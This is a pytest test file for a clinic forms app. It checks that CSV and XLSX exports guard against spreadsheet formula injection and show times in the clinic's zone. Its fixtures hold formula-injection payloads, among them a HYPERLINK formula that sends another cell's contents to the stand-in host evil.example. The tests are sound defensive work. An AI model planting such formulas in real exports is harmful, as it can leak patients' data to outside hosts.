"""Every cell of a CSV or XLSX export is guarded, the heading row included, and times read in the clinic's zone."""

import csv
import datetime
import io

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from forms.inbox import FORMULA_TRIGGERS, guard_cell
from forms.models import FormSubmission
from tests.factories import FormFieldFactory, FormPageFactory

from .conftest import user_with_role

pytestmark = pytest.mark.django_db

EVIL_LABEL = '=HYPERLINK("http://evil.example/?"&B2,"Open")'
TITLES = {
    "plus": "+1 Request a call-back",
    "minus": "-Request a call-back",
    "at": "@Request a call-back",
    "equals": '=HYPERLINK("http://evil.example/","Request")',
    "tab": "\t=1+1 Request",
    "carriage_return": "\r=1+1 Request",
}
# 15:30 UTC in January is 10:30 in New York (EST, -05:00); 14:30 UTC in July is 10:30 (EDT, -04:00).
WINTER = datetime.datetime(2025, 1, 15, 15, 30, 12, 345678, tzinfo=datetime.UTC)
SUMMER = datetime.datetime(2025, 7, 15, 14, 30, 0, tzinfo=datetime.UTC)


@pytest.fixture(autouse=True)
def clinic_in_new_york(settings):
    settings.TIME_ZONE = "America/New_York"


@pytest.fixture
def intake_client(client):
    client.force_login(user_with_role("intake"))
    return client


def evil_form_page(home_page, title):
    """A form whose title and every field label start like a formula, with one submission from each season."""
    page = FormPageFactory(parent=home_page, title=title, consent_text="")
    FormFieldFactory(page=page, label=EVIL_LABEL, field_type="singleline", sort_order=0)
    FormFieldFactory(page=page, label="@Phone", field_type="singleline", sort_order=1)
    FormFieldFactory(page=page, label="-Days", field_type="checkboxes", choices="+Mon\nTue", sort_order=2)
    fields = [field.clean_name for field in page.get_form_fields()]
    for when, values in ((WINTER, [title, "+1 555 010 2040", ["+Mon", "Tue"]]), (SUMMER, ["Alex", "x", []])):
        submission = FormSubmission.objects.create(page=page, form_data=dict(zip(fields, values, strict=True)))
        FormSubmission.objects.filter(pk=submission.pk).update(submit_time=when)
    return page


def export(client, page, export_format):
    response = client.get(f"/admin/forms/submissions/{page.pk}/", {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.getvalue()


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.mark.parametrize("title", TITLES.values(), ids=TITLES.keys())
def test_no_csv_cell_starts_like_a_formula_heading_row_included(intake_client, home_page, title):
    page = evil_form_page(home_page, title)
    header, *rows = csv_rows(export(intake_client, page, "csv"))
    assert header == ["Submission date", "'" + EVIL_LABEL, "'@Phone", "'-Days"]
    for row in [header, *rows]:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), row
    winter = rows[0]
    assert winter[1:] == ["'" + title, "'+1 555 010 2040", "'+Mon, Tue"]


@pytest.mark.parametrize("title", TITLES.values(), ids=TITLES.keys())
def test_no_xlsx_cell_is_a_formula_heading_row_included(intake_client, home_page, title):
    page = evil_form_page(home_page, title)
    sheet = load_workbook(io.BytesIO(export(intake_client, page, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 3 * 4
    assert all(cell.data_type != "f" for cell in cells), [(cell.coordinate, cell.value) for cell in cells]
    header = list(sheet[1])
    assert [cell.value for cell in header] == ["Submission date", EVIL_LABEL, "@Phone", "-Days"]
    winter = list(sheet[2])
    # (XML reads a carriage return back as a line feed.)
    assert [cell.value for cell in winter[1:]] == [title.replace("\r", "\n"), "+1 555 010 2040", "+Mon, Tue"]
    # Text that starts like a formula is a text cell marked quoted: still text after someone edits it.
    for cell in [*header[1:], *winter[1:]]:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate
    assert not header[0].quotePrefix


def test_csv_times_read_in_the_clinics_time_zone(intake_client, home_page):
    page = evil_form_page(home_page, "Request a call-back")
    _header, winter, summer = csv_rows(export(intake_client, page, "csv"))
    assert winter[0] == "2025-01-15 10:30:12-05:00"
    assert summer[0] == "2025-07-15 10:30:00-04:00"


def test_xlsx_times_read_in_the_clinics_time_zone(intake_client, home_page):
    page = evil_form_page(home_page, "Request a call-back")
    sheet = load_workbook(io.BytesIO(export(intake_client, page, "xlsx"))).active
    assert sheet["A2"].value == datetime.datetime(2025, 1, 15, 10, 30, 12)
    assert sheet["A3"].value == datetime.datetime(2025, 7, 15, 10, 30)
    assert sheet["A2"].is_date


def test_times_follow_the_clinics_time_zone_setting(intake_client, home_page, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    page = evil_form_page(home_page, "Request a call-back")
    _header, winter, _summer = csv_rows(export(intake_client, page, "csv"))
    assert winter[0] == "2025-01-15 16:30:12+01:00"
    sheet = load_workbook(io.BytesIO(export(intake_client, page, "xlsx"))).active
    assert sheet["A3"].value == datetime.datetime(2025, 7, 15, 16, 30)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_guard_cell_guards_each_trigger_in_both_formats(text):
    assert guard_cell(text, "csv") == "'" + text
    cell = guard_cell(WriteOnlyCell(Workbook(write_only=True).create_sheet(), text), "xlsx")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize("value", ["Alex", "1+1", " =1", "", 5, None])
def test_guard_cell_leaves_everything_else_alone(value):
    assert guard_cell(value, "csv") == value
    cell = guard_cell(WriteOnlyCell(Workbook(write_only=True).create_sheet(), value), "xlsx")
    assert (cell.value, bool(cell.quotePrefix)) == (value, False)
